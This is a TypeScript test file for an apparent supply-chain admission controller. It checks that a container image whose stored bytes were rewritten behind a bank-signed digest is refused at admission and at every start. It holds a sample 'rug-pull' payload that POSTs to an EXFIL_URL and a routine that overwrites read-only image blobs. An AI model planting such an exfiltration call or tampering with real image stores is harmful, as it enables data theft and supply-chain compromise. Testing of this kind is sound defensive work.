// Admission verifies bytes, not names. The attack: the blob behind the bank-signed digest of the converter is
// rewritten with the rug-pull's bytes; the signature over the digest still verifies, so a check of names alone
// admits it. Here it is refused before any policy is asked (policies on or off), at admission and at every start,
// and reported as an event, a log line and a metric. The clean path: the untampered image is admitted and starts.
import { chmodSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Registry } from 'prom-client';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { tempDir } from '../../testing/workloads.ts';
import { createLogger } from '../core/log.ts';
import { seriesSum } from '../core/prometheus-text.ts';
import { parseManifests } from '../manifests/load.ts';
import type { ClusterPolicy } from '../manifests/types.ts';
import { ENTRY_FILE, ImageStore } from '../runtime/images.ts';
import { evaluateImageAdmission } from '../supply-chain/admission.ts';
import { DEFAULT_MANIFESTS } from './cluster.ts';
import type { PodTemplate } from '../runtime/pod.ts';
import { AdmissionRefused, SupplyChain } from './supply-chain.ts';

const REF = 'acme-fx/currency-converter:1.0.0';
const VENDORS = 'trustusbank-bank-vendors';
const POLICY_FILE = join(DEFAULT_MANIFESTS, 'policies', 'admission', 'verify-images.yaml');
const CLEAN_BYTES = Buffer.from('export const convert = (amount) => amount * 1.27;\n');
const RUGPULL_BYTES = Buffer.from('await fetch(process.env.EXFIL_URL, { method: "POST" });\nexport const convert = (amount) => amount * 1.27;\n');

interface Harness {
  chain: SupplyChain;
  images: ImageStore;
  clean: string;
  logs: Record<string, unknown>[];
  metrics: Registry;
  policies: ClusterPolicy[];
  podOf(digest: string, name?: string): PodTemplate;
  metric(name: string, labels: Record<string, string>): Promise<number>;
}

let dir: { path: string; remove(): void };
let h: Harness;

beforeEach(() => {
  dir = tempDir('tub-supply-chain-');
  const images = new ImageStore(join(dir.path, 'images'));
  const clean = images.storeBlob(CLEAN_BYTES);
  const rugpull = images.storeBlob(RUGPULL_BYTES);
  const logs: Record<string, unknown>[] = [];
  const metrics = new Registry();
  const policies: ClusterPolicy[] = [];
  const chain = new SupplyChain({
    dataDir: dir.path,
    images,
    builds: [
      { image: REF, variant: 'clean', digest: clean },
      { image: REF, variant: 'rugpull', digest: rugpull },
    ],
    defaultVariant: () => 'clean',
    metrics,
    log: createLogger('control-plane', { write: (line) => logs.push(JSON.parse(line) as Record<string, unknown>) }),
    policies: () => policies,
  });
  chain.signBuilds();
  h = {
    chain,
    images,
    clean,
    logs,
    metrics,
    policies,
    podOf: (digest, name = 'currency-converter-abc-1') => ({ name, namespace: VENDORS, deployment: 'currency-converter', image: REF, imageDigest: digest }) as PodTemplate,
    metric: async (name, labels) => seriesSum(await metrics.metrics(), name, labels),
  };
});
afterEach(() => dir.remove());

/** The attack: the clean digest's blob rewritten with the rug-pull's bytes, modes put back. */
function tamperClean(): void {
  const file = h.images.entryFile(h.clean);
  const imageDir = h.images.imageDir(h.clean);
  // As the data directory's owner may: read-only blobs slow an accident, not an owner.
  chmodSync(imageDir, 0o755);
  chmodSync(file, 0o644);
  writeFileSync(file, RUGPULL_BYTES);
  chmodSync(file, 0o444);
  chmodSync(imageDir, 0o555);
}

const enforceBankSignatures = (): void => {
  h.policies.push(...parseManifests(readFileSync(POLICY_FILE, 'utf8'), POLICY_FILE).map((l) => l.resource as ClusterPolicy));
};

describe('admission of an image whose bytes changed behind its signed digest', () => {
  it('clean: the bank-signed, untampered image is admitted and starts, with a policy and without', async () => {
    expect(() => h.chain.admit(h.podOf(h.clean))).not.toThrow();
    enforceBankSignatures();
    expect(() => h.chain.admit(h.podOf(h.clean))).not.toThrow();
    expect(() => h.chain.verifyStart(h.podOf(h.clean))).not.toThrow();
    expect(await h.metric('kyverno_policy_results_total', { policy_name: 'verify-bank-images', rule_result: 'pass' })).toBe(1);
    expect(await h.metric('trustusbank_image_content_verifications_total', { result: 'pass' })).toBe(3);
    expect(await h.metric('trustusbank_image_content_verifications_total', { result: 'fail' })).toBe(0);
    expect(h.chain.events()).toEqual([]);
  });

  it('refuses the tampered blob although its signature still verifies with the policy’s key', async () => {
    enforceBankSignatures();
    tamperClean();
    // Names alone still say yes: the signature is over the digest, and the digest did not move.
    expect(evaluateImageAdmission(h.policies, { namespace: VENDORS, image: REF, digest: h.clean }, h.chain.signatures.list(h.clean))).toMatchObject({ allowed: true, verified: expect.anything() });

    const reason = `image ${REF} (${h.clean}) refused: image content does not match its digest ${h.clean}: ${ENTRY_FILE} changed`;
    expect(() => h.chain.admit(h.podOf(h.clean))).toThrow(new AdmissionRefused(reason));
    expect(h.chain.events()).toEqual([
      { time: expect.any(String), type: 'Warning', reason: 'ImageContentMismatch', object: `Deployment ${VENDORS}/currency-converter`, image: REF, digest: h.clean, message: reason },
    ]);
    expect(h.logs.filter((l) => l.msg === 'admission refused')).toMatchObject([{ level: 'warn', digest: h.clean, event_reason: 'ImageContentMismatch', reason }]);
    expect(await h.metric('trustusbank_image_content_verifications_total', { stage: 'admission', result: 'fail', resource_namespace: VENDORS, workload: 'currency-converter' })).toBe(1);
    // The policy was not asked: no pass recorded for bytes that are not the signed ones.
    expect(await h.metric('kyverno_policy_results_total', { rule_result: 'pass' })).toBe(0);
  });

  it('refuses it with no admission policy switched on', () => {
    tamperClean();
    expect(() => h.chain.admit(h.podOf(h.clean))).toThrow(/image content does not match its digest sha256:[a-f0-9]{64}: main\.mjs changed/);
    expect(h.chain.events().map((e) => e.reason)).toEqual(['ImageContentMismatch']);
  });

  it('refuses a start after admission (a restart after a crash) once the bytes changed; restored bytes start again', async () => {
    const pod = h.podOf(h.clean, 'currency-converter-abc-2');
    h.chain.admit(pod);
    h.chain.verifyStart(pod);
    tamperClean();
    expect(() => h.chain.verifyStart(pod)).toThrow(/main\.mjs changed/);
    // The pod retries with backoff: one event, one count.
    expect(() => h.chain.verifyStart(pod)).toThrow(AdmissionRefused);
    expect(h.chain.events()).toMatchObject([{ reason: 'ImageContentMismatch', object: `Pod ${VENDORS}/currency-converter-abc-2` }]);
    expect(h.logs.filter((l) => l.msg === 'pod start refused')).toHaveLength(1);
    expect(await h.metric('trustusbank_image_content_verifications_total', { stage: 'start', result: 'fail' })).toBe(1);

    // The operator restores the blob (here: a rebuild of the clean bytes moves the tampered copy aside).
    expect(h.images.storeBlob(CLEAN_BYTES)).toBe(h.clean);
    expect(() => h.chain.verifyStart(pod)).not.toThrow();
    // A later tampering is a new refusal, reported again.
    tamperClean();
    expect(() => h.chain.verifyStart(pod)).toThrow(AdmissionRefused);
    expect(h.chain.events()).toHaveLength(2);
  });

  it('refuses an extra file dropped into the image directory, and a link placed there', () => {
    const imageDir = h.images.imageDir(h.clean);
    chmodSync(imageDir, 0o755);
    writeFileSync(join(imageDir, 'preload.mjs'), RUGPULL_BYTES);
    expect(() => h.chain.admit(h.podOf(h.clean))).toThrow(/: extra file preload\.mjs$/);
    rmSync(join(imageDir, 'preload.mjs'));
    symlinkSync(h.images.entryFile(h.clean), join(imageDir, 'alias.mjs'));
    expect(() => h.chain.admit(h.podOf(h.clean))).toThrow(/: alias\.mjs is a symbolic link/);
    rmSync(join(imageDir, 'alias.mjs'));
    expect(() => h.chain.admit(h.podOf(h.clean))).not.toThrow();
  });
});
